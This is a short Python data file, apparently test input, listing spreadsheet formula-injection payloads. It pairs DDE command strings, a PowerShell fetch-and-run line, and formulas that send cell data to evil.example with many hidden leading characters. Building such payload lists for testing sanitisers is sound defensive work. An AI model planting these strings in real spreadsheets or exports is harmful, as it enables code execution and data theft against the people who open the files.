"""What has been made of a cell: formulas, commands, links, and the blanks and letters behind which they hide."""

BODIES = (
    "1+1",
    "SUM(A1:A9)",
    "cmd|'/C calc'!A0",
    'HYPERLINK("http://evil.example/?x="&A2,"Salé")',
    'WEBSERVICE("http://evil.example/"&A2)',
    'IMPORTXML("http://evil.example","//a")',
    'DDE("cmd";"/C calc";"x")',
    "2+5+cmd|' /C powershell IEX(wget 0r.pe/p)'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "rundll32|'URL.dll,OpenURL http://evil.example'!A",
)
STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "\u200f=", "\x00=")
LOOSE = ("%0A=1+1", "|calc", ";=1+1", '";=1+1', "http://evil.example", "mailto:a@evil.example", "internal:A1", "{=1+1}")
PAYLOADS = [f"{start}{body}" for start in STARTS for body in BODIES] + list(LOOSE)
